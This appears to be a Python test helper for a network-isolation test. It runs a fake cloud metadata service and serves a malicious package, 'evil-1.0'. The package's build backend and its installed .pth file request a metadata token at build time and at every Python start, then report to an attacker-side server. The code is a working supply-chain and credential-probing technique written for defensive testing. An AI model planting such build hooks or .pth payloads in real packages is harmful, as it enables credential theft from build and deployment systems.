"""The attacker's side of the isolation test, run in the "internet" namespace.

It serves two things and logs every request it gets, one line each
(`<local address> <method> <path>`), to the file named by argv[1]:

- a stand-in for the instance metadata service on 169.254.169.254:80, which
  answers anything (a real IMDS would hand out the role's credentials);
- on <internet address>:<port>, a source distribution, `evil-1.0.tar.gz`,
  whose in-tree build backend (no build requirements, so pip fetches
  nothing else) asks the metadata service for a token while pip builds it,
  and whose wheel installs a `.pth` file that does the same at every Python
  start in the image (the smoke test, the worker at run time). Each attempt
  also reports to this server where it ran (`/ran-at-build`,
  `/ran-at-runtime`), so a test can tell "blocked" from "never ran".

Usage: imds_attacker.py LOG INTERNET_ADDRESS PORT
"""

import http.server
import io
import sys
import tarfile
import threading

LOG, INTERNET, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
IMDS = "169.254.169.254"

PROBE = f'''
import threading, urllib.request

def _probe(where):
    try:
        req = urllib.request.Request("http://{IMDS}/latest/api/token", method="PUT",
            headers={{"X-aws-ec2-metadata-token-ttl-seconds": "60"}})
        urllib.request.urlopen(req, timeout=2).read()
        got = "imds-answered"
    except Exception as e:
        got = type(e).__name__
    try:
        urllib.request.urlopen(f"http://{INTERNET}:{PORT}/ran-at-{{where}}?imds={{got}}", timeout=2).read()
    except Exception:
        pass
'''

BACKEND = PROBE + '''
import base64, hashlib, os, zipfile

_probe("build")

FILES = {
    "evil_probe.py": PROBE.encode() + b"\\nthreading.Thread(target=_probe, args=('runtime',), daemon=True).start()\\n",
    "evil.pth": b"import evil_probe\\n",
    "evil-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n",
    "evil-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\\nGenerator: evil\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
}

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "evil-1.0-py3-none-any.whl"
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for path, data in FILES.items():
            z.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{path},sha256={digest},{len(data)}")
        record.append("evil-1.0.dist-info/RECORD,,")
        z.writestr("evil-1.0.dist-info/RECORD", "\\n".join(record) + "\\n")
    return name
'''.replace("PROBE", repr(PROBE), 1)

PYPROJECT = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "evil"
version = "1.0"
"""


def sdist():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, text in [
            ("pyproject.toml", PYPROJECT),
            ("backend.py", BACKEND),
            ("PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"),
        ]:
            data = text.encode()
            info = tarfile.TarInfo(f"evil-1.0/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


SDIST = sdist()
LOCK = threading.Lock()


class Handler(http.server.BaseHTTPRequestHandler):
    def _any(self):
        local = self.connection.getsockname()[0]
        with LOCK, open(LOG, "a") as f:
            f.write(f"{local} {self.command} {self.path}\n")
        body = SDIST if self.path == "/evil-1.0.tar.gz" else b"token-for-the-gateway-role\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_PUT = _any

    def log_message(self, *args):
        pass


servers = [
    http.server.ThreadingHTTPServer((IMDS, 80), Handler),
    http.server.ThreadingHTTPServer((INTERNET, PORT), Handler),
]
for s in servers[1:]:
    threading.Thread(target=s.serve_forever, daemon=True).start()
servers[0].serve_forever()
